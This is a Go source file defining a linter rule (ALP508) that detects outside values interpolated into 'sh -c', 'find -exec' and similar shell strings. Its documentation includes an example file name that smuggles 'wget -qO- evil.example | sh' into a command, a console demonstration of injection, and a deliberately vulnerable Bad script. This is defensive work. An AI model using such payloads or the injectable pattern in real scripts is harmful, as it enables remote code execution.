package rules

import (
	"github.com/crampon-lint/crampon/analysis"
	"github.com/crampon-lint/crampon/analysis/taint"
)

var _ = register(&analysis.Rule{
	ID: "ALP508", Name: "sh-c-interpolation", Since: "0.1.0",
	Summary:    "a value from outside in the text of sh -c",
	Severity:   analysis.Warning,
	Confidence: analysis.High,
	Aliases:    []string{"SC2156"},
	CWE:        []int{78},
	Doc: `## What it flags

A value from outside (an argument, a variable of the container, a build argument, a line that was read, a request, a lease) in the text that ` + "`sh -c`, `su -c`, `flock -c`, `watch`, `ssh`, `vi -c`" + ` and their like run; and the ` + "`{}`" + ` of ` + "`find -exec`" + ` or ` + "`xargs -I`" + ` in such a text.

It is silent where the value is an argument (` + "`sh -c '... \"$1\"' sh \"$value\"`" + `), where it was checked, and where the text is quoted for later. A variable that a script of which no Dockerfile is known reads without a default is information only (see ALP507).

## Why

The second shell reads the value as code. find and xargs put the name of a file into the text as it is: a file named ` + "`$(wget -qO- evil.example | sh).html`" + ` is a command. Quotes around ` + "`{}`" + ` do not help, since the name may close them. Run on BusyBox 1.35 and on 1.37 as Alpine builds it.

~~~console
$ : > '$(echo "taken over" >&2).html'
$ sh bad/compress.sh
taken over
...
$ sh good/compress.sh
$ ls
$(echo "taken over" >&2).html
$(echo "taken over" >&2).html.gz
bad
good
~~~

## What to do

Keep the text constant, in single quotes, and pass the value as an argument behind a name for ` + "`$0`" + `.
`,
	Bad: `-- Dockerfile --
FROM alpine:3.24
COPY --chmod=755 compress.sh /
USER nobody
ENTRYPOINT ["/compress.sh"]
-- compress.sh --
#!/bin/sh
find . -name '*.html' -exec sh -c 'gzip -k {}' \;
`,
	Good: `-- Dockerfile --
FROM alpine:3.24
COPY --chmod=755 compress.sh /
USER nobody
ENTRYPOINT ["/compress.sh"]
-- compress.sh --
#!/bin/sh
find . -name '*.html' -exec sh -c 'gzip -k "$1"' sh {} \;
`,
	Run: injected("keep the text constant and pass the value as an argument: sh -c '... \"$1\"' sh \"$value\"",
		taint.ShellC, taint.RunsString),
})
